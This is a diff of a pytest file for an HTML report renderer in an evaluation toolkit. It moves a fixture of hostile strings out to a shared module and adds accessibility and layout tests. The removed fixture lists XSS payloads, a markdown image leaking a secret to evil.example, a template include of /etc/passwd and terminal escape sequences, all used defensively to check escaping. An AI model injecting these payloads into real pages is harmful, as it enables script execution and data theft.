@@ -6,22 +6,35 @@ import re
 from collections.abc import Mapping
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from evalkit.core.envelope import Kind
 from evalkit.core.model import Arm
 from evalkit.core.phrases import title
-from evalkit.core.verdict import Flip, MetricResult, Outcome, Result, Verdict
+from evalkit.core.verdict import (
+    Flip,
+    MetricResult,
+    Outcome,
+    Reason,
+    Result,
+    SliceResult,
+    Unmeasured,
+    Verdict,
+)
 from evalkit.report.html import render_html
 from evalkit.report.view import CaseText, view_of
+from tests.fakes.hostile import HOSTILE
 from tests.report.pages import Element, assert_connected, assert_harmless, read
 from tests.report.verdicts import (
     ACCURACY,
     CODE,
     EVERY_BOUND,
     LENGTH,
+    REFUSAL,
     SLOW,
+    estimate,
     every_verdict,
     facts,
     flips,
@@ -32,23 +45,6 @@ from tests.report.verdicts import (
 
 EVERY_VERDICT = every_verdict()
 TEMPLATES = Path(render_html.__code__.co_filename).parent / "templates"
-HOSTILE = {
-    "a script": "<script>alert(1)</script>",
-    "the end of the style": "</style><style>*{display:none}</style>",
-    "the end of everything": "]]></pre></article></main></body></html>",
-    "a comment": "<!-- <!DOCTYPE html><![CDATA[",
-    "an attribute": "\"'><img src=x onerror=alert(1) style=position:fixed>",
-    "an image in markdown": "![x](https://evil.example/leak?q=secret)",
-    "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{# gone #}",
-    "a link": "javascript:alert(1)",
-    "a turned direction": "abc\u202edcba\u2066x\u2069",
-    "control characters": "a\x00b\x07c\x7fd\x9be\x1b[31mred\x1b]8;;https://evil.example\x07",
-    "line ends nobody sees": "a\u2028b\u2029c\ufeff",
-    "half a character": "a\udc80b\ud800",
-    "one long line": "x" * 1_000_000,
-    "many lines": "\n" * 100_000,
-    "many marks": "&amp;<>&#60;" * 50_000,
-}
 
 
 def rendered(made: Verdict, texts: Mapping[str, CaseText] | None = None, smoke: str = "") -> str:
@@ -82,13 +78,11 @@ def test_every_verdict_becomes_a_balanced_page_with_one_headline(name: str) -> N
 @pytest.mark.parametrize("name", EVERY_VERDICT)
 def test_every_bound_is_stated_in_a_row_of_the_plot(name: str) -> None:
     made = EVERY_VERDICT[name]
-    labels = [
-        found.attributes["aria-label"]
-        for found in section(read(rendered(made)), "envelope").find("svg", role="img")
-    ]
-    assert len(labels) == len(made.bounds)
+    drawn = section(read(rendered(made)), "envelope").find("svg", role="img")
+    titles = [svg.find("title")[0].text for svg in drawn]
+    assert len(titles) == len(made.bounds)
     for bound in made.bounds:
-        assert any(label.startswith(f"{title(bound)}: {bound.result}") for label in labels)
+        assert any(found.startswith(f"{title(bound)}: {bound.result}") for found in titles)
 
 
 @pytest.mark.parametrize("name", EVERY_VERDICT)
@@ -104,6 +98,16 @@ def test_nothing_is_loaded_and_nothing_acts(name: str) -> None:
 @pytest.mark.parametrize("name", EVERY_VERDICT)
 def test_links_and_labels_lead_to_something(name: str) -> None:
     assert_connected(read(rendered(EVERY_VERDICT[name])))
+
+
+@pytest.mark.parametrize("name", EVERY_VERDICT)
+def test_every_figure_has_a_title_and_a_description(name: str) -> None:
+    for figure in read(rendered(EVERY_VERDICT[name])).find("svg", role="img"):
+        (heading,), (words,) = figure.find("title"), figure.find("desc")
+        named = [heading.attributes["id"], words.attributes["id"]]
+        assert figure.attributes["aria-labelledby"].split() == named
+        assert heading.text.strip()
+        assert words.text.strip()
 
 
 def test_each_section_has_a_link_and_a_heading() -> None:
@@ -188,6 +192,25 @@ def test_metrics_without_a_bound_are_shown_even_where_there_is_no_value() -> Non
     assert "no value" in part.text
 
 
+def test_slices_that_no_bound_names_are_folded_the_lowest_value_first() -> None:
+    def part(on: str, value: float, **changes: Any) -> SliceResult:
+        found = estimate(value, value - 0.05, value + 0.05)
+        effect = estimate(-0.02, -0.07, 0.03)
+        made = SliceResult("accuracy", Kind.RATE, "rate", on, "", found, found, effect)
+        return replace(made, **changes)
+
+    nothing = Unmeasured(Reason.NO_VALUES, "no value of 9")
+    parts = (part("a", 0.9), part("b", 0.7), part("c", 0.8, candidate=nothing, effect=nothing))
+    judged = verdict(Outcome.PASS, (CODE,), slices=parts, slices_left_out=2)
+    seen = section(read(rendered(judged)), "slices")
+    assert "2 smaller tags are left out" in seen.text
+    rows = [[cell.text for cell in row.find("td")] for row in seen.find("tbody")[0].find("tr")]
+    assert [row[0] for row in rows] == ["b", "a", "c"]
+    change = "−2.0\u00a0points [−7.0 to +3.0\u00a0points]"
+    assert rows[0][-2:] == ["65.0 to 75.0\u00a0%", change]
+    assert rows[2][-2:] == ["no value of 9", ""]
+
+
 # ---------------------------------------------------------------- flips
 
 
@@ -195,9 +218,9 @@ def test_flips_are_grouped_by_kind_and_filtered_without_a_script() -> None:
     found = [*flips(3), *flips(2, kind="declined → answered"), *flips(1, of=ACCURACY, kind="r → w")]
     page = rendered(verdict(Outcome.FAIL, EVERY_BOUND, facts(flips=found)))
     part = section(read(page), "flips")
-    labels = [label.text for label in part.find("label")]
+    labels = [label.text for label in part.find("fieldset")[0].find("label")]
     assert labels == ["all 6", "answered → declined 3", "declined → answered 2", "r → w 1"]
-    assert [box.attributes["id"] for box in part.find("input")] == [
+    assert [box.attributes["id"] for box in part.find("input", type="radio")] == [
         f"kind-{place}" for place in range(4)
     ]
     for place in range(1, 4):
@@ -313,8 +336,8 @@ def test_hostile_names_are_text(attack: str) -> None:
 
 def test_what_hides_is_shown_by_its_number() -> None:
     page = flipped(HOSTILE["control characters"], HOSTILE["a turned direction"])
-    assert r"a\x00b\x07c\x7fd\x9be\x1b[31mred" in page
-    assert r"abc\u202edcba\u2066x\u2069" in page
+    assert r"a\x00b\x01c\x07d\x08e\x0bf\x0cg\x1fh\x7fi\x85j\x9fk" in page
+    assert r"abc\u202edcba\u202c \u2066x\u2069 \u200fy\u061cz" in page
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)
 
 
@@ -342,7 +365,7 @@ def test_cases_of_similar_names_have_different_anchors() -> None:
 
 def test_no_template_lets_a_value_through_unescaped_or_brings_a_style_of_its_own() -> None:
     for template in TEMPLATES.glob("*.html"):
-        source = template.read_text("utf-8")
+        source = template.read_text("utf-8").replace("<script>{{ script }}</script>", "")
         assert not re.search(r"\|\s*safe|autoescape|\sstyle=|\son\w+=|<script", source), template
 
 
@@ -351,15 +374,15 @@ def test_no_template_lets_a_value_through_unescaped_or_brings_a_style_of_its_own
 
 def test_five_hundred_pairs_of_answers_stay_under_a_megabyte() -> None:
     answer = "word and another " * 38  # 646 characters: with the prompt 1.5 kB a pair
-    kinds = ["x", "y", "z"]
-    found = [Flip(f"c{place}", "refusal", kinds[place % 3], 1.0) for place in range(500)]
+    bounds = [REFUSAL, ACCURACY, LENGTH]
+    found = [Flip(f"c{place}", bounds[place % 3].name, "x", 1.0) for place in range(500)]
     texts = {
         flip.case: text(answer, answer.replace("another", "more", 3), prompt="p" * 200)
         for flip in found
     }
     page = rendered(verdict(Outcome.FAIL, EVERY_BOUND, facts(flips=found)), texts)
     assert len(read(page).find("pre")) == 1000
-    assert len(page.encode()) < 1_000_000
+    assert len(page.encode()) <= 1_000_000
 
 
 def test_a_pair_costs_less_than_a_kilobyte_beyond_its_texts() -> None:
